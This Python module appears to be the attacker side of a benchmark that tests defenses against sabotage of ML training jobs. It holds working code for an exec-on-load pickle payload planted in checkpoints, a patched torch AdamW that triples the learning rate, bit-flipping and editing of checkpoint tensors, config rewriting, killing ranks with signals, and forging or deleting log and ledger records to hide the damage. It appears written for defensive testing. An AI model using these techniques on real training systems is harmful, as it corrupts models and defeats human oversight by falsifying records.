"""Attacks from outside the training process: files, environments and signals.

What the intern could do with write access to shared storage and a shell on the nodes:
edit a torch source file in the job's Python environment (``build_overlay``), plant a pickle
payload in a checkpoint the job will resume from (``poison_checkpoint``), flip bits or edit
a tensor in a checkpoint between save and resume (``tamper_checkpoint``), change a run's
configuration between submission and start (``tamper_config``), kill a rank from another
process (``python -m benchmarks.sabotage.attackers kill ...``) and rewrite the run's records
afterwards (``tamper_records``). Each returns a JSON-able measure of what it altered.

Nothing here touches the real virtual environment: the edited torch is an overlay folder
of symlinks put first on the job's PYTHONPATH.
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import pickle
import random
import shutil
import signal
import sqlite3
import struct
import sys
import time
import zipfile
from collections.abc import Sequence
from pathlib import Path
from typing import Any

#: the line added to torch/optim/adam.py: every Adam/AdamW update, on every device path
ADAM_EDIT = "    lr = lr * 3.0\n"
ADAM_ANCHOR = "    func(\n        params,\n        grads,\n"


def build_overlay(dest: Path) -> dict[str, Any]:
    """A copy of the installed torch, as symlinks, with AdamW's update edited.

    Every directory on the way to ``torch/optim/adam.py`` is a real folder of symlinks (so
    no Python ever writes a recompiled ``.pyc`` into the real environment); every other
    entry is a symlink to the installed one. torch's ``.dist-info`` is copied so a RECORD
    check of the overlay sees the edit. Run the job with ``PYTHONPATH=dest`` (and
    ``PYTHONDONTWRITEBYTECODE=1``).
    """
    import torch  # the real one: this process never has the overlay on its path

    real = Path(torch.__file__).parent
    site = real.parent
    edited = Path("torch/optim/adam.py")
    real_dirs = [Path("torch"), Path("torch/optim"), Path("torch/optim/__pycache__")]
    for rel in real_dirs:
        (dest / rel).mkdir(parents=True, exist_ok=True)
        if not (site / rel).is_dir():
            continue
        for entry in (site / rel).iterdir():
            child = rel / entry.name
            if child in real_dirs or child == edited:
                continue
            if rel.name == "__pycache__" and entry.name.startswith("adam."):
                continue  # the stale bytecode of the edited file is left out
            (dest / child).symlink_to(entry)
    source = (site / edited).read_text()
    if ADAM_ANCHOR not in source:
        raise RuntimeError("torch/optim/adam.py has changed: the overlay's anchor is gone")
    start = source.index("def adam(")
    at = source.index(ADAM_ANCHOR, start)
    (dest / edited).write_text(source[:at] + ADAM_EDIT + source[at:])
    for info in site.glob("torch-*.dist-info"):
        shutil.copytree(info, dest / info.name, dirs_exist_ok=True)
    return {
        "overlay": str(dest),
        "edited_file": str(edited),
        "lines_added": 1,
        "sha256_before": hashlib.sha256(source.encode()).hexdigest(),
        "sha256_after": hashlib.sha256((dest / edited).read_bytes()).hexdigest(),
    }


def record_mismatches(root: Path) -> list[str]:
    """Files under ``root`` whose sha256 disagrees with torch's RECORD there (for the report)."""
    import base64

    bad = []
    for info in root.glob("torch-*.dist-info"):
        for line in (info / "RECORD").read_text().splitlines():
            name, _, rest = line.partition(",")
            digest = rest.split(",")[0]
            if not digest.startswith("sha256=") or not name.startswith("torch/optim/"):
                continue
            data = (root / name).read_bytes()
            got = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            if got != digest[len("sha256=") :]:
                bad.append(name)
    return bad


# ---------------------------------------------------------------------------------------


class _Payload:
    """Unpickles to a call of ``exec`` on ``code``: how pickle payloads run on load."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


def payload_code(marker: Path, lr_factor: float) -> str:
    """Harmless to the machine: writes a marker, then makes every optimizer step use a larger lr."""
    return (
        "import pathlib\n"
        "from torch.optim.optimizer import register_optimizer_step_pre_hook\n"
        f"pathlib.Path({str(marker)!r}).write_text('payload ran')\n"
        "def _boost(opt, args, kwargs):\n"
        "    for g in opt.param_groups:\n"
        f"        g['lr'] = g['lr'] * {lr_factor!r}\n"
        "register_optimizer_step_pre_hook(_boost)\n"
    )


def _read_state(path: Path) -> Any:
    import torch

    if zipfile.is_zipfile(path):
        return torch.load(path, map_location="cpu", weights_only=True)
    from safetensors.torch import load_file

    return {"model": load_file(str(path))}


def poison_checkpoint(
    src: Path, dst: Path, marker: Path, lr_factor: float = 10.0
) -> dict[str, Any]:
    """``dst``: the training state of ``src`` plus an entry whose unpickling runs the payload."""
    import torch

    state = _read_state(src)
    state["__extra__"] = _Payload(payload_code(marker, lr_factor))
    buffer = io.BytesIO()
    torch.save(state, buffer, pickle_protocol=pickle.DEFAULT_PROTOCOL)
    dst.write_bytes(buffer.getvalue())
    return {
        "payload": "exec",
        "marker": str(marker),
        "lr_factor": lr_factor,
        "bytes": dst.stat().st_size,
    }


def _float_regions(data: bytes) -> list[tuple[int, int]]:
    """(offset, length) of the raw float32 tensor bytes in a torch zip or safetensors file."""
    regions = []
    if data[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for info in archive.infolist():
                if "/data/" in info.filename and info.file_size >= 1024:
                    off = info.header_offset
                    name_len, extra_len = struct.unpack("<HH", data[off + 26 : off + 30])
                    regions.append((off + 30 + name_len + extra_len, info.file_size))
        return regions
    header_len = struct.unpack("<Q", data[:8])[0]
    header = json.loads(data[8 : 8 + header_len])
    for name, meta in header.items():
        if name != "__metadata__" and meta["dtype"] == "F32":
            begin, end = meta["data_offsets"]
            if end - begin >= 1024:
                regions.append((8 + header_len + begin, end - begin))
    return regions


def tamper_checkpoint(path: Path, mode: str, seed: int = 0) -> dict[str, Any]:
    """Alters the checkpoint at ``path`` in place, as an attacker between save and resume.

    ``bitflip``: flips bit 23 (the lowest exponent bit: the value doubles or halves) of 1%
    of the float32 words of every tensor, in the raw file bytes; torch's zip reader keeps no
    checksum that would notice. ``edit``: loads the file, multiplies one weight matrix of
    the model by 3 and writes it back in the same format.
    """
    files = sorted(p for p in path.rglob("*") if p.is_file()) if path.is_dir() else [path]
    rng = random.Random(seed)
    changed = 0
    for file in files:
        before = file.read_bytes()
        if mode == "bitflip":
            data = bytearray(before)
            for start, length in _float_regions(before):
                for word in rng.sample(range(length // 4), max(1, length // 400)):
                    data[start + 4 * word + 2] ^= 0x80  # little-endian: bit 23 is byte 2's top bit
            file.write_bytes(bytes(data))
        else:
            _edit_tensor(file)
        after = file.read_bytes()
        changed += sum(a != b for a, b in zip(before, after, strict=False)) + abs(
            len(before) - len(after)
        )
    return {"mode": mode, "files": len(files), "bytes_changed": changed}


def _edit_tensor(file: Path) -> None:
    import torch

    if zipfile.is_zipfile(file):
        state = torch.load(file, map_location="cpu", weights_only=True)
        model = state.get("model", state)
        name = sorted(k for k in model if k.endswith("fc.weight"))[0]
        model[name].mul_(3.0)
        torch.save(state, file)
        return
    from safetensors import safe_open
    from safetensors.torch import save_file

    with safe_open(str(file), "pt") as handle:
        metadata = handle.metadata()
        tensors = {k: handle.get_tensor(k) for k in handle.keys()}  # noqa: SIM118
    name = sorted(k for k in tensors if k.endswith("fc.weight") or tensors[k].dim() == 2)[0]
    tensors[name] = tensors[name] * 3.0
    save_file(tensors, str(file), metadata=metadata)


def tamper_config(path: Path, changes: dict[str, Any]) -> dict[str, Any]:
    """Rewrites fields of the submitted JSON configuration before the job starts."""
    before = path.read_bytes()
    config = json.loads(before)
    altered = {k: [config.get(k), v] for k, v in changes.items() if config.get(k) != v}
    config.update(changes)
    path.write_text(json.dumps(config, indent=2, sort_keys=True))
    return {
        "fields_changed": altered,
        "sha256_before": hashlib.sha256(before).hexdigest(),
        "sha256_after": hashlib.sha256(path.read_bytes()).hexdigest(),
    }


def tamper_records(run_dir: Path, mode: str, first: int, count: int = 10) -> dict[str, Any]:
    """Edits (``edit``) or deletes (``delete``) the records of steps first..first+count-1.

    Whatever records the run dir holds: the plain ``train.log`` (losses rewritten to a
    smooth curve, or lines removed), JSON-lines files, and SQLite databases such as a ledger
    (one row's text changed, or the last rows deleted).
    """
    records = 0
    changed_bytes = 0
    files = []
    for file in sorted(p for p in run_dir.rglob("*") if p.is_file()):
        if not file.exists() or file.name.endswith(("-wal", "-shm", "-journal")):
            continue  # SQLite's side files: they go with their database
        before = file.read_bytes()
        if before.startswith(b"SQLite format 3\x00"):
            n = _tamper_sqlite(file, mode, count)
        elif file.name == "train.log" or file.suffix == ".jsonl":
            n = _tamper_lines(file, mode, first, count)
        else:
            continue
        if n:
            after = file.read_bytes()
            records += n
            changed_bytes += sum(a != b for a, b in zip(before, after, strict=False))
            changed_bytes += abs(len(before) - len(after))
            files.append(str(file.relative_to(run_dir)))
    return {
        "mode": mode,
        "records_changed": records,
        "bytes_changed": changed_bytes,
        "files": files,
    }


def _tamper_lines(file: Path, mode: str, first: int, count: int) -> int:
    lines = file.read_text().splitlines(keepends=True)
    chosen = list(range(min(first, len(lines)), min(first + count, len(lines))))
    if mode == "delete":
        kept = [line for i, line in enumerate(lines) if i not in chosen]
        file.write_text("".join(kept))
        return len(chosen)
    for i in chosen:
        words = lines[i].split()
        if "loss" in words:  # a train.log line: make the loss look healthy
            at = words.index("loss") + 1
            words[at] = f"{float(words[at]) * 0.9:.6f}"
            lines[i] = " ".join(words) + "\n"
        else:
            lines[i] = lines[i].replace("e", "E", 1)
    file.write_text("".join(lines))
    return len(chosen)


def _tamper_sqlite(file: Path, mode: str, count: int) -> int:
    db = sqlite3.connect(file)
    try:
        tables = [r[0] for r in db.execute("select name from sqlite_master where type='table'")]
        sizes = {t: db.execute(f'select count(*) from "{t}"').fetchone()[0] for t in tables}
        table = max(sizes, key=lambda t: sizes[t]) if sizes else None
        if table is None or sizes[table] == 0:
            return 0
        if mode == "delete":
            rows = db.execute(f'select rowid from "{table}" order by rowid desc limit ?', (count,))
            ids = [r[0] for r in rows]
            db.executemany(f'delete from "{table}" where rowid = ?', [(i,) for i in ids])
            db.commit()
            return len(ids)
        columns = [r[1] for r in db.execute(f'pragma table_info("{table}")')]
        rowid = db.execute(f'select rowid from "{table}" limit 1 offset ?', (sizes[table] // 2,))
        target = rowid.fetchone()[0]
        row = db.execute(f'select * from "{table}" where rowid = ?', (target,)).fetchone()
        for column, value in zip(columns, row, strict=True):
            if isinstance(value, str) and value:
                edited = value.replace(value[-1], "X" if value[-1] != "X" else "Y", 1)
                db.execute(f'update "{table}" set "{column}" = ? where rowid = ?', (edited, target))
                db.commit()
                return 1
        return 0
    finally:
        db.close()


def _wait_for_step(run_dir: Path, step: int, timeout_s: float, also: Path | None = None) -> bool:
    log = run_dir / "train.log"
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        ready = also is None or also.exists()
        if ready and log.exists() and f"step {step} " in log.read_text():
            return True
        time.sleep(0.005)
    return False


def kill_when(
    run_dir: Path, rank: int, step: int, signame: str, timeout_s: float, pause_s: float = 0.0
) -> dict[str, Any]:
    """Waits until the job has logged ``step``, then sends ``signame`` to rank ``rank``;
    ``STOP`` is followed ``pause_s`` seconds later by ``CONT`` (a paused, not a dead, rank)."""
    pid_file = run_dir / "pids" / f"rank{rank}.pid"
    record: dict[str, Any] = {"signal": signame, "rank": rank, "after_step": step, "sent": False}
    if _wait_for_step(run_dir, step, timeout_s, also=pid_file):
        pid = int(pid_file.read_text())
        try:
            os.kill(pid, getattr(signal, f"SIG{signame}"))
            record.update(pid=pid, sent=True)
            if signame == "STOP":
                time.sleep(pause_s)
                os.kill(pid, signal.SIGCONT)
                record["paused_s"] = pause_s
        except ProcessLookupError:  # the job finished first: the attack came too late
            pass
    return record


def cut_when(run_dir: Path, step: int, count: int, timeout_s: float) -> dict[str, Any]:
    """While the job runs, once it has logged ``step``: deletes the last ``count`` rows of
    every SQLite database in ``run_dir`` (the ledger) and the last ``count`` lines of its
    ``train.log``."""
    record: dict[str, Any] = {"after_step": step, "records_changed": 0, "files": [], "sent": False}
    if not _wait_for_step(run_dir, step, timeout_s):
        return record
    record["sent"] = True
    for file in sorted(p for p in run_dir.rglob("*") if p.is_file()):
        if file.name.endswith(("-wal", "-shm", "-journal")) or "ckpt" in file.parts:
            continue
        n = 0
        if file.read_bytes()[:16] == b"SQLite format 3\x00":
            for _ in range(50):  # the job may hold the write lock for a moment
                try:
                    n = _tamper_sqlite(file, "delete", count)
                    break
                except sqlite3.OperationalError:
                    time.sleep(0.1)
        elif file.name == "train.log":
            lines = file.read_text().splitlines(keepends=True)
            n = min(count, len(lines))
            file.write_text("".join(lines[: len(lines) - n]))
        if n:
            record["records_changed"] += n
            record["files"].append(str(file.relative_to(run_dir)))
    return record


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.sabotage.attackers")
    sub = parser.add_subparsers(dest="command", required=True)
    kill = sub.add_parser("kill", help="signal a rank of a running job from another process")
    kill.add_argument("--run-dir", type=Path, required=True)
    kill.add_argument("--rank", type=int, required=True)
    kill.add_argument("--after-step", type=int, required=True)
    kill.add_argument("--signal", choices=["TERM", "KILL", "STOP"], required=True)
    kill.add_argument("--pause", type=float, default=5.0, help="seconds before SIGCONT (STOP)")
    kill.add_argument("--timeout", type=float, default=300.0)
    kill.add_argument("--out", type=Path, required=True, help="JSON record of what was sent")
    cut = sub.add_parser("cut", help="delete a running job's last records from another process")
    cut.add_argument("--run-dir", type=Path, required=True)
    cut.add_argument("--after-step", type=int, required=True)
    cut.add_argument("--count", type=int, default=5)
    cut.add_argument("--timeout", type=float, default=300.0)
    cut.add_argument("--out", type=Path, required=True, help="JSON record of what was deleted")
    args = parser.parse_args(argv)
    if args.command == "cut":
        record = cut_when(args.run_dir, args.after_step, args.count, args.timeout)
        args.out.write_text(json.dumps(record))
        return 0 if record["sent"] else 1
    record = kill_when(
        args.run_dir, args.rank, args.after_step, args.signal, args.timeout, args.pause
    )
    args.out.write_text(json.dumps(record))
    return 0 if record["sent"] else 1


if __name__ == "__main__":
    sys.exit(main())
